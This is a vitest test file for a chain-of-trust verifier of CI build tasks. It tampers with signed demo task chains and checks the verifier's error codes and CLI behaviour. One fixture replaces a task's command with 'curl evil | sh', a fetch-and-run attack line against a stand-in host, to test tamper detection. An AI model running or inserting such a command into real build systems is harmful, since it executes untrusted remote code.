import { spawnSync } from 'node:child_process';
import { cp, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  generateChainOfTrust,
  type JsonObject,
  loadPolicy,
  loadSigningKey,
  verifyChain,
} from '../../src/index.js';
import { DirectoryQueue, startQueueServer, TaskclusterQueue } from '../../src/queue.js';
import { type DemoResult, runDemo } from '../../src/testing.js';
import { runCli } from '../helpers/cli.js';
import { codeOf, REPO, tempDir } from '../helpers/env.js';

const NOW = new Date('2026-11-25T12:00:00Z');
let demo: DemoResult;
let d: string;

beforeAll(async () => {
  d = await tempDir();
  demo = await runDemo({ out: join(d, 'demo'), now: NOW });
});

/** A copy of the demo to break in one way. */
async function copyDemo(name: string): Promise<{ dir: string; queue: DirectoryQueue }> {
  const dir = join(d, name);
  await cp(demo.dir, dir, { recursive: true });
  return { dir, queue: new DirectoryQueue(join(dir, 'queue')) };
}

async function verifyCopy(dir: string, policyEdit?: (p: string) => string) {
  if (policyEdit)
    await writeFile(join(dir, 'policy.yml'), policyEdit(await readFile(join(dir, 'policy.yml'), 'utf8')));
  const loaded = await loadPolicy(join(dir, 'policy.yml'));
  return verifyChain(new DirectoryQueue(join(dir, 'queue')), demo.taskId, {
    policy: loaded.policy,
    trust: loaded.trust,
    at: NOW,
  });
}

const codes = (r: { errors: { code: string }[] }) => [...new Set(r.errors.map((e) => e.code))].sort();

/** Re-sign a task's document with the demo key of its implementation (after changing its artifacts). */
async function resign(
  dir: string,
  queue: DirectoryQueue,
  taskId: string,
  impl: 'docker-worker' | 'generic-worker' | 'scriptworker',
) {
  const key = await loadSigningKey(join(dir, 'keys', `${impl}.key`));
  const runDir = join(queue.runDir(taskId, 0), 'artifacts');
  await generateChainOfTrust({
    task: await queue.task(taskId),
    taskId,
    runId: 0,
    workerGroup: 'us-east-1',
    workerId: `${impl}-1`,
    artifactDir: runDir,
    keys: [key],
    format: impl === 'generic-worker' ? 'ed25519' : 'openpgp',
    outDir: join(runDir, 'public'),
    now: NOW,
  });
}

describe('cot demo', () => {
  it('verifies the whole chain: 6 links, each with its implementation, the scriptworker keys with their root', () => {
    expect(demo.report.ok).toBe(true);
    expect(demo.report.links).toHaveLength(6);
    const byRole = Object.fromEntries(demo.report.links.map((l) => [l.taskId, l]));
    expect(byRole[demo.tasks.decision!]).toMatchObject({ decision: true, implementation: 'docker-worker' });
    expect(byRole[demo.tasks['build-win64']!]).toMatchObject({
      implementation: 'generic-worker',
      signatureKind: 'ed25519',
    });
    expect(byRole[demo.tasks.signing!]!.certifiedBy).toMatch(/demo releng root/);
    expect(demo.report.stats.artifactsChecked).toBe(5);
  });

  it('leaves demo.json and policy.yml, and `cot verify` agrees (exit 0); --tamper fails (exit 1)', async () => {
    const meta = JSON.parse(await readFile(join(demo.dir, 'demo.json'), 'utf8'));
    expect(meta).toMatchObject({ taskId: demo.taskId, policy: 'policy.yml' });
    const v = await runCli(
      NOW,
      'verify',
      demo.taskId,
      '--queue',
      join(demo.dir, 'queue'),
      '--policy',
      join(demo.dir, 'policy.yml'),
      '--json',
    );
    expect(v.code).toBe(0);
    expect(JSON.parse(v.out).ok).toBe(true);
    const t = await runCli(NOW, 'demo', '--out', join(d, 'tampered'), '--tamper');
    expect(t.code).toBe(1);
    expect(t.err).toMatch(/^cot: CHAIN_VERIFICATION_FAILED: 1 of \d+ tasks failed; first: HASH_MISMATCH/);
    expect(t.out).toMatch(/NOT VERIFIED/);
  });
});

describe('chain failures', () => {
  it('a task definition changed in the queue after signing: CHAIN_TASK_MISMATCH, with a diff', async () => {
    const { dir, queue } = await copyDemo('task-mismatch');
    const t = await queue.task(demo.tasks['build-linux64']!);
    await queue.putTask(demo.tasks['build-linux64']!, {
      ...t,
      payload: { ...(t.payload as JsonObject), command: ['curl evil | sh'] },
    });
    const r = await verifyCopy(dir);
    expect(codes(r)).toContain('CHAIN_TASK_MISMATCH');
    expect(r.errors.find((e) => e.code === 'CHAIN_TASK_MISMATCH')!.message).toMatch(/payload\.command/);
  });

  it('a task missing from its (re-signed) task-graph.json: CHAIN_NOT_IN_TASK_GRAPH', async () => {
    const { dir, queue } = await copyDemo('not-in-graph');
    const graphPath = queue.artifactPath(demo.tasks.decision!, 0, 'public/task-graph.json');
    const graph = JSON.parse(await readFile(graphPath, 'utf8'));
    delete graph[demo.tasks['build-win64']!];
    await writeFile(graphPath, JSON.stringify(graph));
    await resign(dir, queue, demo.tasks.decision!, 'docker-worker');
    const r = await verifyCopy(dir);
    expect(codes(r)).toEqual(['CHAIN_NOT_IN_TASK_GRAPH']);
    expect(r.errors[0]!.taskId).toBe(demo.tasks['build-win64']);
  });

  it('a changed task-graph.json without a new signature: HASH_MISMATCH on the decision task', async () => {
    const { dir, queue } = await copyDemo('graph-tampered');
    await writeFile(queue.artifactPath(demo.tasks.decision!, 0, 'public/task-graph.json'), '{}');
    expect(codes(await verifyCopy(dir))).toContain('HASH_MISMATCH');
  });

  it('policy: decision worker type not allowed, unknown worker type, wrong implementation', async () => {
    const a = await copyDemo('decision-type');
    expect(
      codes(
        await verifyCopy(a.dir, (p) =>
          p.replace('decisionWorkerTypes: [releng-3/decision]', 'decisionWorkerTypes: [releng-3/other]'),
        ),
      ),
    ).toEqual(['CHAIN_DECISION_WORKER_TYPE', 'CHAIN_NO_DECISION']);
    const b = await copyDemo('unknown-type');
    expect(
      codes(await verifyCopy(b.dir, (p) => p.replace('  releng-3/b-win2022: generic-worker\n', ''))),
    ).toEqual(['CHAIN_COT_MISSING', 'CHAIN_UNKNOWN_WORKER_TYPE']);
    const c = await copyDemo('wrong-impl');
    const r = await verifyCopy(c.dir, (p) =>
      p.replace('releng-3/b-win2022: generic-worker', 'releng-3/b-win2022: docker-worker'),
    );
    expect(codes(r)).toContain('KEY_WRONG_IMPLEMENTATION');
  });

  it('an image built elsewhere: CHAIN_IMAGE_HASH_MISMATCH', async () => {
    const { dir, queue } = await copyDemo('image');
    await writeFile(
      queue.artifactPath(demo.tasks['docker-image']!, 0, 'public/image.tar.zst'),
      'another image',
    );
    await resign(dir, queue, demo.tasks['docker-image']!, 'docker-worker');
    expect(codes(await verifyCopy(dir))).toEqual(['CHAIN_IMAGE_HASH_MISMATCH']);
  });

  it('bounds: depth and task count are reported as errors', async () => {
    const a = await copyDemo('deep');
    expect(codes(await verifyCopy(a.dir, (p) => p.replace('maxDepth: 10', 'maxDepth: 1')))).toContain(
      'CHAIN_TOO_DEEP',
    );
    const b = await copyDemo('many');
    expect(codes(await verifyCopy(b.dir, (p) => p.replace('maxTasks: 100', 'maxTasks: 3')))).toContain(
      'CHAIN_TOO_MANY_TASKS',
    );
  });

  it('key files per implementation in the policy itself (`keys:`) serve like a trust file', async () => {
    const { dir } = await copyDemo('policy-keys');
    const r = await verifyCopy(dir, (p) =>
      p.replace('ed25519Keys: ed25519-keys.json\n', 'keys:\n  generic-worker: [keys/generic-worker.pub]\n'),
    );
    expect(r.errors).toEqual([]);
  });

  it('a policy with an unknown key is refused with a hint', async () => {
    const { dir } = await copyDemo('bad-policy');
    await writeFile(
      join(dir, 'policy.yml'),
      (await readFile(join(dir, 'policy.yml'), 'utf8')).replace('signatureFormat', 'signatureFromat'),
    );
    const err = await loadPolicy(join(dir, 'policy.yml')).catch((e: Error & { code: string }) => e);
    expect(err).toMatchObject({ code: 'POLICY_INVALID' });
    expect((err as Error).message).toContain(
      'signatureFromat: unknown key (did you mean "signatureFormat"?)',
    );
    await writeFile(join(dir, 'policy.yml'), 'workerTypes: {}\n');
    expect(await codeOf(loadPolicy(join(dir, 'policy.yml')))).toBe('POLICY_INVALID');
  });
});

describe('progress display', () => {
  it.skipIf(spawnSync('script', ['--version']).status !== 0)(
    'on a terminal (a real pty via script(1)): a progress line; with --json or CI: silent',
    async () => {
      const cmd = (extra: string) =>
        `${JSON.stringify(process.execPath)} ${JSON.stringify(join(REPO, 'bin/cot.js'))} verify ${demo.taskId} --queue ${JSON.stringify(join(demo.dir, 'queue'))} --policy ${JSON.stringify(demo.policy)} ${extra}`;
      const env = { ...process.env };
      delete env.CI;
      const tty = spawnSync('script', ['-qec', cmd(''), '/dev/null'], { encoding: 'utf8', env });
      expect(tty.status).toBe(0);
      expect(tty.stdout).toMatch(/verifying: 6\/6 tasks, [0-9.]+ MB hashed/);
      const json = spawnSync('script', ['-qec', cmd('--json'), '/dev/null'], { encoding: 'utf8', env });
      expect(json.stdout).not.toMatch(/verifying:/);
      const ci = spawnSync('script', ['-qec', cmd(''), '/dev/null'], {
        encoding: 'utf8',
        env: { ...env, CI: 'true' },
      });
      expect(ci.stdout).not.toMatch(/verifying:/);
    },
  );
});

describe('mirror, then verify offline', () => {
  it('cot fetch mirrors what the chain needs; the mirror verifies with no server', async () => {
    const server = await startQueueServer({ dir: join(demo.dir, 'queue') });
    try {
      const f = await runCli(
        NOW,
        'fetch',
        demo.taskId,
        '--root-url',
        server.rootUrl,
        '--out',
        join(d, 'mirror'),
      );
      expect(f.code, f.err).toBe(0);
    } finally {
      await server.close();
    }
    const v = await runCli(
      NOW,
      'verify',
      demo.taskId,
      '--queue',
      join(d, 'mirror'),
      '--policy',
      demo.policy,
      '--json',
    );
    expect(v.code, v.err).toBe(0);
    expect(JSON.parse(v.out)).toMatchObject({ ok: true, stats: { artifactsChecked: 5 } });
  });
});

describe('through the local queue server with the real client', () => {
  it('verifies the demo chain the same way', async () => {
    const server = await startQueueServer({ dir: join(demo.dir, 'queue') });
    try {
      const loaded = await loadPolicy(demo.policy);
      const r = await verifyChain(
        new TaskclusterQueue({ rootUrl: server.rootUrl, retries: 1 }),
        demo.taskId,
        { policy: loaded.policy, trust: loaded.trust, at: NOW },
      );
      expect(r.errors).toEqual([]);
      expect(r.ok).toBe(true);
      expect(r.stats.artifactsChecked).toBe(5);
    } finally {
      await server.close();
    }
  });
});
